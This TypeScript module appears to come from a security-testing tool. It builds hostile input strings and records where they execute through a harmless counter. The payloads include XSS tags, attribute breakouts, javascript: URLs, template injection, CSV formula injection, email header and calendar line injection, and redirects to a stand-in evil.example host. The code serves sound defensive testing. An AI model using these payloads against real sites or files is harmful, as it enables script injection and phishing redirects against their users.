/** The attribute that a payload leaves behind when a browser parses or runs any of it. */
export const MARK = 'data-pwned'
const RUN = 'window.__pwned=(window.__pwned||0)+1'

const TAGS = [
  `<script ${MARK}>${RUN}</script>`,
  `<img ${MARK} src=x onerror=${RUN}>`,
  `<svg ${MARK} onload=${RUN}>`,
  `<iframe ${MARK} srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a ${MARK} href="javascript:${RUN}">x</a>`,
  `<base ${MARK} href="https://evil.example/">`,
  `<meta ${MARK} http-equiv="refresh" content="0;url=https://evil.example/">`,
]

interface Payload {
  text: string
  /**
   * Set when it is harmful only at the beginning of a text: an executable address on pages, a formula in CSV tables.
   */
  leads?: 'pages' | 'tables'
}

/**
 * Texts that try to be executed: by breaking out of attributes, comments, scripts, titles and data, as addresses,
 * templates, formulas, header lines and calendar lines, and with characters that reverse the text direction.
 */
export const PAYLOADS: readonly Payload[] = [
  { text: `"'><!--></title></textarea></style></script>${TAGS.join('')}` },
  { text: `</script><script ${MARK}>${RUN}</script><!--<script>{"a":"\\u003cimg ${MARK} src=x\\u003e` },
  { text: `" ${MARK} onmouseover="${RUN}" onfocus="${RUN}" autofocus x="` },
  { text: `' ${MARK} onmouseover='${RUN}' autofocus x='` },
  // Without a space, because of some names only the first word is displayed.
  { text: `javascript:${RUN}//%0a<img/${MARK}/src="x"/onerror="${RUN}">`, leads: 'pages' },
  { text: `data:text/html,${TAGS[0]}`, leads: 'pages' },
  { text: `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= 7*7 %>#{7*7}${TAGS[1]}` },
  { text: `=cmd|'/C calc'!A1`, leads: 'tables' },
  { text: `+cmd("pwned")`, leads: 'tables' },
  { text: `@SUM(1+1)*cmd`, leads: 'tables' },
  { text: `-2+3+cmd`, leads: 'tables' },
  { text: `\tcmd\r=cmd`, leads: 'tables' },
  { text: `x\r\nX-Pwned: 1\r\nBcc: everybody@evil.example\r\n\r\n${TAGS[1]}` },
  { text: `x\r\nEND:VEVENT\r\nX-PWNED:1\r\nBEGIN:VEVENT` },
  { text: `\u202Egnp.exe\u2066\u2028\u2029\u0000\u0008${TAGS[2]}]]>` },
  { text: `&lt;img ${MARK} src=x onerror=${RUN}&gt;&#60;script ${MARK}&#62;` },
]

type Numbered = Payload & { n: number }

/** A variant of the hostile text: begins with `lead`, if any, followed by all payloads that work anywhere. */
export interface Writing {
  lead: Numbered | null
  rest: readonly Numbered[]
  /**
   * What this variant can harm that no earlier one could: the first everything, later ones only pages or only CSV
   * tables.
   */
  hurts: 'everything' | 'pages' | 'tables'
}

/** The fewest variants that put each of the first payloads where it can do harm. */
export function writingsOf(count: number): Writing[] {
  const payloads = PAYLOADS.slice(0, count).map((payload, n) => ({ ...payload, n }))
  const rest = payloads.filter(({ leads }) => !leads)
  const leads = payloads.filter((payload) => payload.leads)
  if (leads.length === 0) return [{ lead: null, rest, hurts: 'everything' }]
  return leads.map((lead, n) => ({ lead, rest, hurts: n === 0 ? 'everything' : (lead.leads ?? 'pages') }))
}

/**
 * The hostile text for one place. Its marks name the payload and the place. The rest is rotated at every turn, because
 * only the beginning of a long text may be displayed.
 */
export function hostileText({ lead, rest }: Writing, place: string, turn: number): string {
  const from = rest.length === 0 ? 0 : turn % rest.length
  return [...(lead ? [lead] : []), ...rest.slice(from), ...rest.slice(0, from)]
    .map(({ n, text }) => text.replaceAll(MARK, `${MARK}=${n}.${place}`))
    .join(' ')
}

const SHORT_LENGTH = 80

/** One tag of the hostile text, for a place that keeps few characters; it ends where they end. */
export const shortHostileText = ({ lead, rest }: Writing, place: string): string =>
  `"><img ${MARK}=${(rest[0] ?? lead)?.n ?? 0}.${place} src=x onerror=${RUN}>`.slice(0, SHORT_LENGTH)

/** The places whose marks appear in a text, even where they are harmless. */
export const placesIn = (text: string): Set<string> =>
  new Set([...text.matchAll(PLACED)].map(([, place = '']) => place))

const PLACED = /data-pwned[=-]\d+\.([a-z_]+\.[a-z_]+)/gi
